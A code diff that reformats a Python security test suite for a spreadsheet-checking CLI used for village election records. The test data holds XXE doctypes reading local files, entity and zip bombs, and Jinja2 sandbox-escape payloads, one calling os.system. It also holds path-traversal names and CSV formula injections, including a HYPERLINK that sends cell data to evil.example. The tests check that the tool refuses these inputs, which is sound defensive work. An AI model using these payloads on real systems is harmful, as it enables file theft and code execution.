@@ -23,12 +23,12 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from helpers import GB, ROOT, far_corner_xlsx, patched_xlsx, plain_xlsx, run_bounded, zip_bomb_xlsx
 from hypothesis import given
 from hypothesis import strategies as st
+from hypothesis_profiles import examples
 from typer.testing import CliRunner
 
-from helpers import GB, ROOT, far_corner_xlsx, patched_xlsx, plain_xlsx, run_bounded, zip_bomb_xlsx
-from hypothesis_profiles import examples
 from lax.cli import app
 from lax.criteria import load_criteria
 from lax.read.records import read_records
@@ -85,41 +85,50 @@ def test_a_cell_in_the_far_corner_of_a_sheet_is_refused(tmp_path):
 
 
 def test_a_huge_declared_dimension_alone_is_harmless(tmp_path):
-    dim = patched_xlsx(tmp_path / "dim.xlsx", lambda xml: re.sub(r'<dimension ref="[^"]*"/>',
-                                                                 '<dimension ref="A1:XFD1048576"/>', xml))
+    dim = patched_xlsx(
+        tmp_path / "dim.xlsx", lambda xml: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml)
+    )
     r = run_bounded(["check", str(dim), "--format", "json"], tmp_path, memory=GB, timeout=60)
     assert r.returncode == 1, r.stderr
     assert [v["village"] for v in json.loads(r.stdout)["villages"]] == ["宋三村"]
 
 
 def ods(path: Path, body: str) -> Path:
-    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
-               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
-               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
-               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
-               f'<office:spreadsheet><table:table table:name="排查表">{body}</table:table></office:spreadsheet>'
-               '</office:body></office:document-content>')
+    content = (
+        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
+        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
+        f'<office:spreadsheet><table:table table:name="排查表">{body}</table:table></office:spreadsheet>'
+        "</office:body></office:document-content>"
+    )
     with zipfile.ZipFile(path, "w") as z:
         z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
-        z.writestr("META-INF/manifest.xml",
-                   '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
-                   'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
-                   '<manifest:file-entry manifest:full-path="/" '
-                   'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
-                   '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
-                   '</manifest:manifest>')
+        z.writestr(
+            "META-INF/manifest.xml",
+            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
+            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
+            '<manifest:file-entry manifest:full-path="/" '
+            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
+            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
+            "</manifest:manifest>",
+        )
         z.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
     return path
 
 
-HEADER_ROW = ('<table:table-row><table:table-cell office:value-type="string"><text:p>乡镇</text:p></table:table-cell>'
-              '<table:table-cell office:value-type="string"><text:p>村名</text:p></table:table-cell></table:table-row>')
+HEADER_ROW = (
+    '<table:table-row><table:table-cell office:value-type="string"><text:p>乡镇</text:p></table:table-cell>'
+    '<table:table-cell office:value-type="string"><text:p>村名</text:p></table:table-cell></table:table-row>'
+)
 
 
 def repeated(rows: int, cols: int) -> str:
-    return (f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
-            f'table:number-columns-repeated="{cols}" office:value-type="string"><text:p>x</text:p>'
-            '</table:table-cell></table:table-row>')
+    return (
+        f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
+        f'table:number-columns-repeated="{cols}" office:value-type="string"><text:p>x</text:p>'
+        "</table:table-cell></table:table-row>"
+    )
 
 
 def test_an_ods_repeating_a_cell_17_billion_times_is_one_problem(tmp_path):
@@ -138,7 +147,8 @@ def test_an_ods_repeating_a_cell_99_million_times_is_refused_in_bounded_memory(t
 
 def _entity_bomb(levels: int) -> str:
     ents = '<!ENTITY a0 "lollollollollollollollollollol">' + "".join(
-        f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, levels + 1))
+        f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, levels + 1)
+    )
     return f"<!DOCTYPE worksheet [{ents}]>"
 
 
@@ -150,6 +160,7 @@ def test_an_entity_expansion_bomb_is_refused_in_bounded_time_and_memory(tmp_path
             return re.sub(r'<c r="B2"[^>]*>.*?</c>', '<c r="B2" t="inlineStr"><is><t>&a12;</t></is></c>', xml)
         xml = xml.replace("<workbook", _entity_bomb(12).replace("worksheet", "workbook") + "<workbook", 1)
         return xml.replace('name="排查表"', 'name="&a12;"')
+
     path = patched_xlsx(tmp_path / "laughs.xlsx", patch, member)
     started = time.monotonic()
     r = run_bounded(["check", str(path), "--format", "json"], tmp_path, memory=GB, timeout=60)
@@ -158,11 +169,14 @@ def test_an_entity_expansion_bomb_is_refused_in_bounded_time_and_memory(tmp_path
     one_unreadable(r, path)
 
 
-@pytest.mark.parametrize("doctype, where", [
-    ('<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>', "entity"),
-    ('<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>', "parameter entity"),
-    ('<!DOCTYPE worksheet SYSTEM "file://{secret}">', "external DTD"),
-])
+@pytest.mark.parametrize(
+    "doctype, where",
+    [
+        ('<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>', "entity"),
+        ('<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>', "parameter entity"),
+        ('<!DOCTYPE worksheet SYSTEM "file://{secret}">', "external DTD"),
+    ],
+)
 def test_an_external_entity_never_reads_a_local_file(tmp_path, doctype, where):
     secret = tmp_path / "secret.txt"
     secret.write_text("TOP-SECRET-县委组织部-内部", encoding="utf-8")
@@ -172,6 +186,7 @@ def test_an_external_entity_never_reads_a_local_file(tmp_path, doctype, where):
         if "xxe" in doctype:
             xml = re.sub(r'<c r="B2"[^>]*>.*?</c>', '<c r="B2" t="inlineStr"><is><t>&xxe;</t></is></c>', xml)
         return xml
+
     path = patched_xlsx(tmp_path / "xxe.xlsx", patch)
     for fmt in ("json", "csv", "table"):
         r = runner.invoke(app, ["check", str(path), "--format", fmt])
@@ -182,14 +197,19 @@ def test_an_external_entity_never_reads_a_local_file(tmp_path, doctype, where):
 def test_an_ods_with_an_external_entity_never_reads_a_local_file(tmp_path):
     secret = tmp_path / "secret.txt"
     secret.write_text("TOP-SECRET", encoding="utf-8")
-    path = ods(tmp_path / "xxe.ods", HEADER_ROW + '<table:table-row><table:table-cell office:value-type="string">'
-               '<text:p>邓埠镇</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>&xxe;'
-               '</text:p></table:table-cell></table:table-row>')
+    path = ods(
+        tmp_path / "xxe.ods",
+        HEADER_ROW + '<table:table-row><table:table-cell office:value-type="string">'
+        '<text:p>邓埠镇</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>&xxe;'
+        "</text:p></table:table-cell></table:table-row>",
+    )
     with zipfile.ZipFile(path) as z:
         files = {n: z.read(n) for n in z.namelist()}
     files["content.xml"] = files["content.xml"].replace(
-        b"<office:document-content", f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]><office:document-content'
-        .encode(), 1)
+        b"<office:document-content",
+        f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]><office:document-content'.encode(),
+        1,
+    )
     with zipfile.ZipFile(path, "w") as z:
         for n, d in files.items():
             z.writestr(n, d)
@@ -206,7 +226,10 @@ def test_a_text_file_with_a_spreadsheet_name(tmp_path, name):
     path.write_text("乡镇,村名\n邓埠镇,宋三村\n", encoding="utf-8")
     records, problems = read_records([str(path)], CRIT)
     assert records == [] and [(p.code, p.path) for p in problems] == [("unreadable-file", str(path))]
-    assert problems[0].message == "cannot read the file: this is a text file, not a spreadsheet (if it is CSV, name it .csv)"
+    assert (
+        problems[0].message
+        == "cannot read the file: this is a text file, not a spreadsheet (if it is CSV, name it .csv)"
+    )
 
 
 def test_the_password_protected_workbook_on_the_command_line(tmp_path):
@@ -225,16 +248,23 @@ def _seed(kind: str, folder: Path) -> bytes:
         elif kind == "xls":
             SEEDS[kind] = (DATA / "legacy.xls").read_bytes()
         else:
-            SEEDS[kind] = ods(folder / "seed.ods", HEADER_ROW + '<table:table-row><table:table-cell '
-                              'office:value-type="string"><text:p>邓埠镇</text:p></table:table-cell>'
-                              '<table:table-cell office:value-type="string"><text:p>宋三村</text:p>'
-                              '</table:table-cell></table:table-row>').read_bytes()
+            SEEDS[kind] = ods(
+                folder / "seed.ods",
+                HEADER_ROW + "<table:table-row><table:table-cell "
+                'office:value-type="string"><text:p>邓埠镇</text:p></table:table-cell>'
+                '<table:table-cell office:value-type="string"><text:p>宋三村</text:p>'
+                "</table:table-cell></table:table-row>",
+            ).read_bytes()
     return SEEDS[kind]
 
 
 @examples(30, dev=150)
-@given(kind=st.sampled_from(["xlsx", "xls", "ods"]), cut=st.floats(0, 1), flips=st.lists(
-    st.tuples(st.floats(0, 1), st.integers(1, 255)), max_size=4), noise=st.binary(max_size=64))
+@given(
+    kind=st.sampled_from(["xlsx", "xls", "ods"]),
+    cut=st.floats(0, 1),
+    flips=st.lists(st.tuples(st.floats(0, 1), st.integers(1, 255)), max_size=4),
+    noise=st.binary(max_size=64),
+)
 def test_truncated_and_damaged_spreadsheets_are_one_problem_or_read(tmp_path_factory, kind, cut, flips, noise):
     folder = tmp_path_factory.mktemp("broken")
     data = bytearray(_seed(kind, folder))
@@ -250,8 +280,9 @@ def test_truncated_and_damaged_spreadsheets_are_one_problem_or_read(tmp_path_fac
 
 
 @examples(30, dev=150)
-@given(data=st.binary(max_size=2000), suffix=st.sampled_from([".xlsx", ".xls", ".xlsb", ".ods", ".csv", ".yaml",
-                                                               ".json"]))
+@given(
+    data=st.binary(max_size=2000), suffix=st.sampled_from([".xlsx", ".xls", ".xlsb", ".ods", ".csv", ".yaml", ".json"])
+)
 def test_random_bytes_under_any_name_never_raise(tmp_path_factory, data, suffix):
     path = tmp_path_factory.mktemp("bytes") / f"noise{suffix}"
     path.write_bytes(data)
@@ -267,8 +298,10 @@ TEN_MB = 10 * 1024 * 1024
 
 def test_a_10_mb_village_name_is_read_in_bounded_time(tmp_path):
     name = "长" * (TEN_MB // 3)
-    path = patched_xlsx(tmp_path / "long.xlsx", lambda xml: re.sub(
-        r'<c r="B2"[^>]*>.*?</c>', f'<c r="B2" t="inlineStr"><is><t>{name}</t></is></c>', xml))
+    path = patched_xlsx(
+        tmp_path / "long.xlsx",
+        lambda xml: re.sub(r'<c r="B2"[^>]*>.*?</c>', f'<c r="B2" t="inlineStr"><is><t>{name}</t></is></c>', xml),
+    )
     # CPU time of this process: the work done, not how busy the machine is (two test workers, other jobs)
     started = time.process_time()
     records, problems = read_records([str(path)], CRIT)
@@ -287,19 +320,26 @@ def test_a_10_mb_csv_cell_is_read_in_bounded_time(tmp_path):
     assert time.process_time() - started < 10
     # Read, or refused as a whole with one short message (Python's csv module caps a field at 128 KB).
     assert (problems == [] and len(records) == 2) or (
-        records == [] and [p.code for p in problems] == ["unreadable-file"] and len(problems[0].message) < 300)
+        records == [] and [p.code for p in problems] == ["unreadable-file"] and len(problems[0].message) < 300
+    )
 
 
 def test_a_10_mb_bad_cell_gives_a_short_message(tmp_path):
-    path = patched_xlsx(tmp_path / "long.xlsx", lambda xml: re.sub(
-        r'<c r="C2"[^>]*>.*?</c>', '<c r="C2" t="inlineStr"><is><t>' + "是" * (TEN_MB // 3) + "</t></is></c>", xml))
+    path = patched_xlsx(
+        tmp_path / "long.xlsx",
+        lambda xml: re.sub(
+            r'<c r="C2"[^>]*>.*?</c>', '<c r="C2" t="inlineStr"><is><t>' + "是" * (TEN_MB // 3) + "</t></is></c>", xml
+        ),
+    )
     records, problems = read_records([str(path)], CRIT)
     assert [(p.code, p.row, p.column) for p in problems] == [("bad-bool", 2, "C")]
     assert len(problems[0].message) < 300
 
 
 def test_a_bad_cell_with_a_line_break_gives_a_one_line_message(tmp_path):
-    path = plain_xlsx(tmp_path / "break.xlsx", [("乡镇", "村名", "换届完成"), ("邓埠镇", "宋三村", "已完成\n（待复核）")])
+    path = plain_xlsx(
+        tmp_path / "break.xlsx", [("乡镇", "村名", "换届完成"), ("邓埠镇", "宋三村", "已完成\n（待复核）")]
+    )
     records, problems = read_records([str(path)], CRIT)
     assert [(p.code, p.row, p.column) for p in problems] == [("bad-bool", 2, "C")]
     assert "\n" not in problems[0].message
@@ -310,12 +350,16 @@ def test_a_bad_cell_with_a_line_break_gives_a_one_line_message(tmp_path):
 CSV_TEXT = "乡镇,村名,换届完成\n邓埠镇,宋三村,否\n"
 
 
-@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32", "shift_jis", "big5", "cp500", "euc-kr",
-                                      "koi8-r", "latin-1"])
+@pytest.mark.parametrize(
+    "encoding", ["utf-16-le", "utf-16-be", "utf-32", "shift_jis", "big5", "cp500", "euc-kr", "koi8-r", "latin-1"]
+)
 def test_a_csv_in_an_unexpected_encoding_is_one_problem_never_garbage(tmp_path, encoding):
     path = tmp_path / "dengbu.csv"
-    text = CSV_TEXT if encoding not in ("koi8-r", "latin-1", "cp500") else "township,village,election_completed\n" \
-        "Dengbu,Songsan,no\n"
+    text = (
+        CSV_TEXT
+        if encoding not in ("koi8-r", "latin-1", "cp500")
+        else "township,village,election_completed\nDengbu,Songsan,no\n"
+    )
     try:
         raw = text.encode(encoding)
     except UnicodeEncodeError:
@@ -342,70 +386,125 @@ def test_a_csv_with_a_bom_in_utf16_is_read(tmp_path):
 
 def _tiny_ledger(folder: Path) -> Path:
     led = folder / "ledger"
-    r = runner.invoke(app, ["ledger", "open", "东阳村", "--township", "洪湖乡", "--standards", "C07", "--date",
-                            "2026-08-20", "--ledger", str(led)])
+    r = runner.invoke(
+        app,
+        [
+            "ledger",
+            "open",
+            "东阳村",
+            "--township",
+            "洪湖乡",
+            "--standards",
+            "C07",
+            "--date",
+            "2026-08-20",
+            "--ledger",
+            str(led),
+        ],
+    )
     assert r.exit_code == 0, r.output
     return led
 
 
-@pytest.mark.parametrize("expr", [
-    "cycler.__init__.__globals__.os",
-    "joiner.__init__.__globals__",
-    "lipsum.__globals__['os']",
-    "namespace.__init__.__globals__",
-    "self.__init__.__globals__",
-    "self._TemplateReference__context",
-    "range.__self__",
-    "''.__class__.__mro__[1].__subclasses__()",
-    "[].__class__.__base__.__subclasses__()",
-    "(1).__class__.__bases__",
-    "villages.__class__",
-    "''|attr('__class__')",
-    "'{0.__class__.__mro__}'.format('')",
-    "'%s'.format.__globals__",
-    "request.application.__globals__",
-    "config",
-    "__builtins__",
-    "().__class__.__bases__[0].__subclasses__()[0].__init__.__globals__['sys'].modules['os'].system('touch {marker}')",
-])
+@pytest.mark.parametrize(
+    "expr",
+    [
+        "cycler.__init__.__globals__.os",
+        "joiner.__init__.__globals__",
+        "lipsum.__globals__['os']",
+        "namespace.__init__.__globals__",
+        "self.__init__.__globals__",
+        "self._TemplateReference__context",
+        "range.__self__",
+        "''.__class__.__mro__[1].__subclasses__()",
+        "[].__class__.__base__.__subclasses__()",
+        "(1).__class__.__bases__",
+        "villages.__class__",
+        "''|attr('__class__')",
+        "'{0.__class__.__mro__}'.format('')",
+        "'%s'.format.__globals__",
+        "request.application.__globals__",
+        "config",
+        "__builtins__",
+        "().__class__.__bases__[0].__subclasses__()[0].__init__.__globals__['sys'].modules['os'].system('touch {marker}')",
+    ],
+)
 def test_a_template_reaching_for_python_internals_gets_nothing(tmp_path, expr):
     marker = tmp_path / "pwned"
     led = _tiny_ledger(tmp_path)
     mine = tmp_path / "mine"
     mine.mkdir()
-    (mine / "county.en.md.j2").write_text("# Report\n\n{{ " + expr.replace("{marker}", str(marker)) + " }}\n",
-                                          encoding="utf-8")
-    r = runner.invoke(app, ["report", "--quarter", "2026Q3", "--templates", str(mine), "--ledger", str(led)],
-                      env={"LAX_TODAY": "2026-10-15"})
+    (mine / "county.en.md.j2").write_text(
+        "# Report\n\n{{ " + expr.replace("{marker}", str(marker)) + " }}\n", encoding="utf-8"
+    )
+    r = runner.invoke(
+        app,
+        ["report", "--quarter", "2026Q3", "--templates", str(mine), "--ledger", str(led)],
+        env={"LAX_TODAY": "2026-10-15"},
+    )
     assert r.exit_code == 2, r.output
     assert r.stderr.startswith(f"{mine}/county.en.md.j2:3: ") and r.stderr.count("\n") == 1, r.stderr
-    assert any(w in r.stderr for w in ("unsafe", "undefined", "refused by the template sandbox", "no attribute")), r.stderr
+    assert any(w in r.stderr for w in ("unsafe", "undefined", "refused by the template sandbox", "no attribute")), (
+        r.stderr
+    )
     assert r.stdout == "" and "<module 'os'" not in r.output and not marker.exists()
 
 
-@pytest.mark.parametrize("text", [
-    "{% include '/etc/passwd' %}",
-    "{% include '../../../../../../etc/passwd' %}",
-    "{% extends '/etc/hostname' %}",
-    "{% import '../secret.j2' as s %}{{ s }}",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{% include '/etc/passwd' %}",
+        "{% include '../../../../../../etc/passwd' %}",
+        "{% extends '/etc/hostname' %}",
+        "{% import '../secret.j2' as s %}{{ s }}",
+    ],
+)
 def test_a_template_cannot_include_files_outside_the_template_folders(tmp_path, text):
     led = _tiny_ledger(tmp_path)
     (tmp_path / "secret.j2").write_text("TOP-SECRET", encoding="utf-8")
     mine = tmp_path / "mine"
     mine.mkdir()
     (mine / "county.en.md.j2").write_text("# R\n" + text + "\n", encoding="utf-8")
-    r = runner.invoke(app, ["report", "--quarter", "2026Q3", "--templates", str(mine), "--ledger", str(led)],
-                      env={"LAX_TODAY": "2026-10-15"})
+    r = runner.invoke(
+        app,
+        ["report", "--quarter", "2026Q3", "--templates", str(mine), "--ledger", str(led)],
+        env={"LAX_TODAY": "2026-10-15"},
+    )
     assert r.exit_code == 2 and "TemplateNotFound" in r.stderr and r.stderr.count("\n") == 1
     assert "TOP-SECRET" not in r.output and "root:" not in r.output
 
 
 # ------------------------------------------------------------------------- village names and the ledger
 
-ESCAPES = ["../../etc/passwd", "..", "../..", ".", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\server\\share",
-           ".hidden", ".lock", ".cache", "_townships", "CON", "NUL.txt", "a" * 300, "村/../../x", "~", "$HOME",
-           "宋三村\u202e", "宋三村\u200b", "-rf", "--help", "*", "?", "|", "<x>", "\"q\"", "a:b"]
+ESCAPES = [
+    "../../etc/passwd",
+    "..",
+    "../..",
+    ".",
+    "/etc/passwd",
+    "C:\\Windows\\win.ini",
+    "\\\\server\\share",
+    ".hidden",
+    ".lock",
+    ".cache",
+    "_townships",
+    "CON",
+    "NUL.txt",
+    "a" * 300,
+    "村/../../x",
+    "~",
+    "$HOME",
+    "宋三村\u202e",
+    "宋三村\u200b",
+    "-rf",
+    "--help",
+    "*",
+    "?",
+    "|",
+    "<x>",
+    '"q"',
+    "a:b",
+]
 
 
 def _sheet(tmp_path, names, file="in.csv"):
@@ -435,15 +534,19 @@ def test_village_names_from_a_township_sheet_cannot_leave_the_ledger_folder(tmp_
     # Names with '/', '\\' or control characters are refused as `lax ledger open` refuses them: nothing recorded.
     everything = _sheet(tmp_path, ESCAPES, "all.csv")
     before = {p for p in tmp_path.rglob("*")}
-    r = runner.invoke(app, ["check", str(everything), "--record", "--ledger", str(led), "--format", "json"],
-                      env={"LAX_TODAY": "2026-10-01"})
+    r = runner.invoke(
+        app,
+        ["check", str(everything), "--record", "--ledger", str(led), "--format", "json"],
+        env={"LAX_TODAY": "2026-10-01"},
+    )
     assert r.exit_code == 2 and "nothing recorded" in r.stderr, r.output
     assert not [p for p in tmp_path.rglob("*.yaml") if p not in before]
     # Every other name, however odd (., .lock, CON, $HOME, ~ ...), is kept inside the folder under its own name.
     held = _sheet(tmp_path, [n for n in ESCAPES if _ledger_can_hold(n)])
     before = {p for p in tmp_path.rglob("*")}
-    r = runner.invoke(app, ["check", str(held), "--record", "--ledger", str(led), "--format", "json"],
-                      env={"LAX_TODAY": "2026-10-01"})
+    r = runner.invoke(
+        app, ["check", str(held), "--record", "--ledger", str(led), "--format", "json"], env={"LAX_TODAY": "2026-10-01"}
+    )
     assert r.exit_code in (1, 2) and "Traceback" not in r.output and "internal error" not in r.output, r.output
     created = {p for p in tmp_path.rglob("*")} - before
     assert created and all(p == led or led in p.parents for p in created), sorted(map(str, created))
@@ -452,7 +555,9 @@ def test_village_names_from_a_township_sheet_cannot_leave_the_ledger_folder(tmp_
     assert not (led / ".lock").read_bytes()  # the lock file was not overwritten by a village called .lock
     r = runner.invoke(app, ["ledger", "verify", "--ledger", str(led)])
     assert r.exit_code == 0, r.output
-    r = runner.invoke(app, ["ledger", "list", "--format", "json", "--ledger", str(led)], env={"LAX_TODAY": "2026-10-01"})
+    r = runner.invoke(
+        app, ["ledger", "list", "--format", "json", "--ledger", str(led)], env={"LAX_TODAY": "2026-10-01"}
+    )
     listed = {v["village"] for v in json.loads(r.stdout)["villages"]}
     read, _problems = read_records([str(held)], CRIT)
     assert listed == {rec.values[CRIT.index["village"]] for rec in read}  # every village kept, under its own name
@@ -465,14 +570,17 @@ def test_a_ledger_recorded_from_a_sheet_exports_and_imports_back(tmp_path):
     (tmp_path / "in.csv").write_text(buf.getvalue(), encoding="utf-8")
     led, again = tmp_path / "ledger", tmp_path / "again"
     env = {"LAX_TODAY": "2026-10-01"}
-    r = runner.invoke(app, ["check", str(tmp_path / "in.csv"), "--record", "--ledger", str(led), "--format", "json"],
-                      env=env)
+    r = runner.invoke(
+        app, ["check", str(tmp_path / "in.csv"), "--record", "--ledger", str(led), "--format", "json"], env=env
+    )
     if r.exit_code == 2:  # refused with one rule for names: then nothing was recorded
         assert not list(led.rglob("*.yaml")) and "东/西村" in r.stderr
         return
     assert r.exit_code == 1
-    assert runner.invoke(app, ["ledger", "export", str(tmp_path / "台账.xlsx"), "--ledger", str(led)],
-                         env=env).exit_code == 0
+    assert (
+        runner.invoke(app, ["ledger", "export", str(tmp_path / "台账.xlsx"), "--ledger", str(led)], env=env).exit_code
+        == 0
+    )
     r = runner.invoke(app, ["ledger", "import", str(tmp_path / "台账.xlsx"), "--ledger", str(again)], env=env)
     assert r.exit_code == 0, r.output
 
@@ -480,8 +588,23 @@ def test_a_ledger_recorded_from_a_sheet_exports_and_imports_back(tmp_path):
 @pytest.mark.parametrize("name", ESCAPES)
 def test_a_village_name_typed_on_the_command_line_cannot_leave_the_ledger_folder(tmp_path, name):
     led = tmp_path / "ledger"
-    r = runner.invoke(app, ["ledger", "open", "--township", "邓埠镇", "--standards", "C05", "--date", "2026-09-30",
-                            "--ledger", str(led), "--", name])
+    r = runner.invoke(
+        app,
+        [
+            "ledger",
+            "open",
+            "--township",
+            "邓埠镇",
+            "--standards",
+            "C05",
+            "--date",
+            "2026-09-30",
+            "--ledger",
+            str(led),
+            "--",
+            name,
+        ],
+    )
     assert r.exit_code in (0, 2) and "Traceback" not in r.output and "internal error" not in r.output, r.output
     outside = [p for p in tmp_path.rglob("*") if led not in p.parents and p != led]
     assert outside == []
@@ -492,11 +615,19 @@ def test_a_village_name_typed_on_the_command_line_cannot_leave_the_ledger_folder
 
 # --------------------------------------------------------------------------- formulas in CSV and xlsx
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
-            "＝1+1", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "＝1+1",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
-NAMES = ["=HYPERLINK(\"evil\",\"点击\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' -C calc'!A0", "＝1+1", "=1+1"]
+NAMES = ['=HYPERLINK("evil","点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' -C calc'!A0", "＝1+1", "=1+1"]
 
 
 def _formula_input(tmp_path: Path) -> Path:
@@ -547,8 +678,9 @@ def test_text_starting_like_a_formula_is_written_inert_everywhere(tmp_path):
     texts = _no_formula_cells(tmp_path / "out.xlsx")
     assert "'" + FORMULAS[0] in texts and "'" + NAMES[0] in texts  # a problem's value, a village's name
     clean = tmp_path / "clean.csv"
-    clean.write_text("".join(source.read_text(encoding="utf-8").splitlines(keepends=True)[: len(NAMES) + 1]),
-                     encoding="utf-8")
+    clean.write_text(
+        "".join(source.read_text(encoding="utf-8").splitlines(keepends=True)[: len(NAMES) + 1]), encoding="utf-8"
+    )
     r = runner.invoke(app, ["check", str(clean), "--record", "--ledger", str(led), "--format", "json"], env=env)
     assert r.exit_code == 1, r.output
     r = runner.invoke(app, ["ledger", "list", "--format", "csv", "--ledger", str(led)], env=env)
@@ -556,8 +688,10 @@ def test_text_starting_like_a_formula_is_written_inert_everywhere(tmp_path):
     for row in csv.reader(io.StringIO(r.stdout)):
         for cell in row:
             assert not cell or _inert(cell), cell
-    for args in (["list", "--format", "xlsx", "--output", str(tmp_path / "list.xlsx")],
-                 ["export", str(tmp_path / "台账.xlsx")]):
+    for args in (
+        ["list", "--format", "xlsx", "--output", str(tmp_path / "list.xlsx")],
+        ["export", str(tmp_path / "台账.xlsx")],
+    ):
         r = runner.invoke(app, ["ledger", *args, "--ledger", str(led)], env=env)
         assert r.exit_code == 0, r.output
     _no_formula_cells(tmp_path / "list.xlsx")
